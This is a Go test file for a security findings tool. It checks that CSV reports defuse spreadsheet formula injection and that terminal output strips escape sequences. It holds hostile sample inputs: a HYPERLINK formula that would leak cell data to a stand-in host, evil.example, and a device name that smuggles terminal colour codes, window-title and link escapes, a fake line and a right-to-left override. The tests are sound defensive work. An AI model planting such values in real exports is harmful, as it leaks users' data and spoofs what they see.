package report

import (
	"bytes"
	"encoding/csv"
	"testing"
	"time"

	"github.com/onus-sec/onus"
)

// A device named like a formula is written as text: spreadsheets would
// otherwise run it (OWASP CSV injection).
func TestFindingsCSVNeutralisesFormulas(t *testing.T) {
	evil := `=HYPERLINK("https://evil.example/?leak="&A1,"Open report")`
	now := time.Date(2026, 11, 30, 9, 0, 0, 0, time.UTC)
	fs := []onus.Finding{{ID: 1, Control: "edr", Entity: "device:serial:X", EntityName: evil, Responsible: onus.Person{Email: "@jane"},
		OwnerReason: "+owner", FirstFailed: now, Due: now}}
	var b bytes.Buffer
	if err := WriteFindings(&b, fs, CSV, now); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows[1:] {
		for _, c := range row {
			if c != "" && (c[0] == '=' || c[0] == '+' || c[0] == '@') {
				t.Errorf("cell %q starts a formula", c)
			}
		}
		if row[6] != "'"+evil {
			t.Errorf("entity_name = %q", row[6])
		}
	}
}

// Names from exports with line breaks, a right-to-left override and
// terminal escape sequences (colour, window title, OSC 8 link) print as
// plain text in listings and in one finding.
func TestTerminalOutputIsClean(t *testing.T) {
	evil := "MBP-\x1b[31mRED\x1b[0m\x1b]0;owned\x07\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\\r\nfake line\u202Egnp.exe"
	now := time.Date(2026, 11, 30, 9, 0, 0, 0, time.UTC)
	f := onus.Finding{ID: 1, Control: "edr", Entity: "device:serial:X", EntityName: evil, Responsible: onus.Person{Email: "jane@acme.com"},
		OwnerReason: "owner", FirstFailed: now, Due: now, Evidence: []onus.Evidence{{Path: "entity.name", Value: evil}}}
	var b bytes.Buffer
	if err := WriteFindings(&b, []onus.Finding{f}, "text", now); err != nil {
		t.Fatal(err)
	}
	WriteFinding(&b, f, []onus.Event{{At: now, Type: "opened", Note: evil}}, "Fix "+evil, now)
	out := b.String()
	for _, bad := range []string{"\x1b", "\u202E", "\r", "\x07", "\nfake line"} {
		if bytes.Contains([]byte(out), []byte(bad)) {
			t.Errorf("the output holds %q:\n%q", bad, out)
		}
	}
	if !bytes.Contains([]byte(out), []byte("MBP-REDlink  fake linegnp.exe")) {
		t.Errorf("the name is not shown as text:\n%s", out)
	}
}
